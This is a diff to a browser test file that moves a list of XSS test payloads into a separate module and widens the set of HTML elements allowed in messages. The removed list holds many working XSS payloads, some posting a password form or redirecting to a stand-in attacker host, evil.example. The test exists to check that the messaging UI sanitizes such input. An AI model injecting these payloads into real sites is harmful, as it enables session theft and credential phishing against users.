@@ -5,45 +5,10 @@ import { afterAll, beforeAll, expect, test } from "vitest";
 import { startBrowser } from "./browser";
 import { Person } from "./person";
 import { Server } from "./server";
-
-const CORPUS = [
-  "<script>window.pwned=1;alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  "<svg/onload=alert(1)>",
-  "<svg><script>alert(1)</script></svg>",
-  "<iframe src=javascript:alert(1)></iframe>",
-  "<a href=\"javascript:alert(1)\">click</a>",
-  "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
-  "<style>body{display:none}</style>",
-  "<link rel=stylesheet href=//evil.example/x.css>",
-  "<base href=//evil.example>",
-  "<meta http-equiv=refresh content=0;url=//evil.example>",
-  "<form action=//evil.example><input name=password></form>",
-  "<details open ontoggle=alert(1)>",
-  "<input autofocus onfocus=alert(1)>",
-  "\"><script>alert(1)</script>",
-  "' onmouseover='alert(1)",
-  "</p></div></main><script>alert(1)</script>",
-  "<!--><script>alert(1)</script-->",
-  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-  "javascript:alert(1)",
-  "JaVaScRiPt:alert(1)//https://example.com",
-  "data:text/html,<script>alert(1)</script>",
-  "https://example.com/\"onmouseover=\"alert(1)",
-  "https://example.com/<script>alert(1)</script>",
-  "[x](javascript:alert(1))",
-  "{{constructor.constructor('alert(1)')()}}",
-  "${alert(1)}",
-  "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
-  "%3Cscript%3Ealert(1)%3C/script%3E",
-  "\u202e<script>alert(1)</script>\u202c",
-  "<scr\u0131pt>alert(1)</scr\u0131pt>",
-  "__proto__",
-  "constructor",
-];
+import { CORPUS } from "./xss-corpus";
 
 /** Elements a message may hold. */
-const ALLOWED = new Set(["P", "DIV", "SPAN", "TIME", "A", "UL", "LI", "BUTTON", "svg", "path"]);
+const ALLOWED = new Set(["P", "DIV", "SPAN", "TIME", "A", "UL", "LI", "BUTTON", "svg", "path", "STRONG", "EM", "S", "CODE", "PRE", "BLOCKQUOTE", "OL"]);
 
 let browser: Browser;
 let server: Server;
